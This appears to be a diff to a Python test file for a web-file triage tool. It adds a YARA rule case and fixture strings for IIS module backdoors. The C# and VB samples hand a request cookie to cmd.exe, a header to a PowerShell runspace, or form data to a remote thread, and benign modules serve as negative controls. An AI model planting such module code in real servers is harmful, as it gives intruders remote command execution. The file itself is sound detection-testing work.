@@ -11,13 +11,18 @@ halves in one server page. The pages below reproduce the shape (C# and VB, ``Fil
 ``StreamWriter``, the field taken by id or by name) and the ordinary logon pages closest to it. All pages
 were written for these tests: nothing is compiled or run, paths and field names are placeholders, and none
 is a copy of a real logger.
+
+The collection's managed IIS module backdoors (public "IIS backdoor" projects: an ``IHttpModule`` whose
+``BeginRequest`` handler hands a cookie to cmd.exe, a PowerShell runspace or shellcode) were found by the
+behaviour analysis in ``App_Code``; the same classes anywhere else in a web folder are read by YARA only and no
+rule of ours named them. ``EXT_WEBSHELL_Managed_Module_Backdoor`` in ``data/rules/module_backdoors.yar`` names
+such a class wherever it lies; request-logging, rewriting, authentication and image-converting modules stay
+silent.
 """
 
 from __future__ import annotations
 
 from pathlib import Path
-
-import pytest
 
 from extriage.detections.webfiles import content
 
@@ -110,8 +115,103 @@ LOGON_PAGES_ORDINARY: list[Page] = [
     ),
 ]
 
+_MODULE_RULE = "EXT_WEBSHELL_Managed_Module_Backdoor"
+
+_CS_MODULE_HEAD = (
+    "using System;\nusing System.Web;\nnamespace Probe {\n  public class M : IHttpModule {\n"
+    "    public void Dispose() { }\n"
+    "    public void Init(HttpApplication app) { app.BeginRequest += new EventHandler(OnBegin); }\n"
+)
+
+MODULE_BACKDOORS: list[Page] = [
+    (
+        "cs-cookie-to-cmd",
+        ".cs",
+        _CS_MODULE_HEAD + "    void OnBegin(object sender, EventArgs e) {\n"
+        "      HttpApplication a = (HttpApplication)sender; HttpRequest Request = a.Request;\n"
+        '      HttpCookie c = Request.Cookies["probe"]; if (c == null) return;\n'
+        "      var p = new System.Diagnostics.Process();\n"
+        '      p.StartInfo.FileName = "cmd.exe"; p.StartInfo.UseShellExecute = false;\n'
+        "      p.StartInfo.RedirectStandardInput = true; p.StartInfo.RedirectStandardOutput = true;\n"
+        '      p.Start(); p.StandardInput.WriteLine(c.Value); p.StandardInput.WriteLine("exit");\n'
+        "      a.Context.Response.Write(p.StandardOutput.ReadToEnd()); a.Context.Response.End();\n"
+        "    }\n  }\n}\n",
+    ),
+    (
+        "vb-header-to-runspace",
+        ".vb",
+        "Imports System.Web\nImports System.Management.Automation.Runspaces\n"
+        "Public Class M\n  Implements IHttpModule\n"
+        "  Public Sub Dispose() Implements IHttpModule.Dispose\n  End Sub\n"
+        "  Public Sub Init(ByVal app As HttpApplication) Implements IHttpModule.Init\n"
+        "    AddHandler app.PreRequestHandlerExecute, AddressOf OnPre\n  End Sub\n"
+        "  Private Sub OnPre(sender As Object, e As EventArgs)\n"
+        '    Dim s As String = HttpContext.Current.Request.Headers("X-Probe")\n'
+        "    If s Is Nothing Then Return\n"
+        "    Dim r = RunspaceFactory.CreateRunspace() : r.Open()\n"
+        "    Dim pl = r.CreatePipeline() : pl.Commands.AddScript(s)\n"
+        "    HttpContext.Current.Response.Write(pl.Invoke().Count)\n  End Sub\nEnd Class\n",
+    ),
+    (
+        "cs-form-to-remote-thread",
+        ".cs",
+        "using System;\nusing System.Web;\nusing System.Runtime.InteropServices;\n"
+        "public class N : System.Web.IHttpModule {\n  public void Dispose() { }\n"
+        "  public void Init(System.Web.HttpApplication app) { app.AuthenticateRequest += Go; }\n"
+        '  [DllImport("kernel32.dll")] static extern bool WriteProcessMemory(IntPtr h, IntPtr a, byte[] b, IntPtr n, int w);\n'
+        '  [DllImport("kernel32.dll")] static extern IntPtr CreateRemoteThread(IntPtr h, IntPtr a, uint s, IntPtr f, IntPtr p, uint c, IntPtr t);\n'
+        "  void Go(object s, EventArgs e) {\n"
+        '    string v = ((HttpApplication)s).Request.Form["probe"]; if (v == null) return;\n'
+        "    byte[] b = Convert.FromBase64String(v);\n"
+        "    WriteProcessMemory(IntPtr.Zero, IntPtr.Zero, b, new IntPtr(b.Length), 0);\n"
+        "    CreateRemoteThread(IntPtr.Zero, IntPtr.Zero, 0, IntPtr.Zero, IntPtr.Zero, 0, IntPtr.Zero);\n  }\n}\n",
+    ),
+]
+
+MODULES_ORDINARY: list[Page] = [
+    (
+        "request-logging-module",
+        ".cs",
+        _CS_MODULE_HEAD + "    void OnBegin(object sender, EventArgs e) {\n"
+        "      var r = ((HttpApplication)sender).Request;\n"
+        '      System.IO.File.AppendAllText(@"C:\\logs\\req.log", r.Headers["User-Agent"] + " " + r.RawUrl + "\\n");\n'
+        "    }\n  }\n}\n",
+    ),
+    (
+        "basic-auth-module",
+        ".cs",
+        _CS_MODULE_HEAD + "    void OnBegin(object sender, EventArgs e) {\n"
+        "      var ctx = ((HttpApplication)sender).Context;\n"
+        '      string h = ctx.Request.Headers["Authorization"];\n'
+        '      if (h == null || !h.StartsWith("Basic ")) { ctx.Response.StatusCode = 401; ctx.Response.End(); return; }\n'
+        "      string pair = System.Text.Encoding.UTF8.GetString(Convert.FromBase64String(h.Substring(6)));\n"
+        "      if (!Users.Check(pair)) { ctx.Response.StatusCode = 403; ctx.Response.End(); }\n"
+        "    }\n  }\n}\n",
+    ),
+    (
+        "image-converter-module",
+        ".cs",
+        _CS_MODULE_HEAD + "    void OnBegin(object sender, EventArgs e) {\n"
+        "      var a = (HttpApplication)sender;\n"
+        '      string w = a.Request.QueryString["w"]; if (w == null) return;\n'
+        '      var psi = new System.Diagnostics.ProcessStartInfo(@"C:\\tools\\magick.exe");\n'
+        '      psi.Arguments = "convert in.png -resize " + int.Parse(w) + " out.png";\n'
+        "      System.Diagnostics.Process.Start(psi).WaitForExit();\n"
+        "    }\n  }\n}\n",
+    ),
+    (
+        "maintenance-script-at-start-no-request",
+        ".cs",
+        "using System;\nusing System.Web;\npublic class W : IHttpModule {\n  public void Dispose() { }\n"
+        "  public void Init(HttpApplication app) {\n"
+        '    System.Diagnostics.Process.Start("cmd.exe", "/c C:\\\\ops\\\\warmup.cmd");\n'
+        "    app.EndRequest += (s, e) => { };\n  }\n}\n",
+    ),
+]
+
 CASES: list[RuleCase] = [
     (_RULE, CREDENTIAL_LOGGERS, LOGON_PAGES_ORDINARY),
+    (_MODULE_RULE, MODULE_BACKDOORS, MODULES_ORDINARY),
 ]
 
 (
@@ -121,10 +221,10 @@ CASES: list[RuleCase] = [
 ) = rule_tables(CASES)
 
 
-# The two backdoored Exchange ``ExpiredPassword.aspx`` pages of the collection were named by YARA only: the
-# behaviour analysis does not follow a ``ProcessStartInfo`` taken into a local (``i = p.StartInfo``) and then
-# filled from the request before ``p.Start()``. Asked of helper A6 (/work/notes/to_a6.md, X26); strict xfail
-# until the engine follows the alias, then the mark comes off.
+# The two backdoored Exchange ``ExpiredPassword.aspx`` pages of the collection were named by YARA only on first
+# sight: the behaviour analysis did not follow a ``ProcessStartInfo`` taken into a local (``i = p.StartInfo``)
+# and then filled from the request before ``p.Start()``. Asked of helper A6 (/work/notes/to_a6.md, X26), who
+# made the engine follow it; these two pages hold it to that.
 _ALIAS_START_INFO = (
     '<%@ Page Language="C#" %>\n<%\n'
     "System.Diagnostics.Process p = new System.Diagnostics.Process();\n"
@@ -137,7 +237,6 @@ _ALIAS_START_INFO = (
 _ALIAS_START_INFO_NO_REQUEST = _ALIAS_START_INFO.replace('Request.Form["b"]', 'Server.MapPath("~/App_Data")')
 
 
-@pytest.mark.xfail(strict=True, reason="behaviour: a StartInfo alias is not followed (asked of A6, X26)")
 def test_start_info_taken_into_a_local_reaches_process(tmp_path: Path, params: content.ContentParams) -> None:
     assert "process" in behaviour_sinks(tmp_path, "alias.aspx", _ALIAS_START_INFO, params)
 
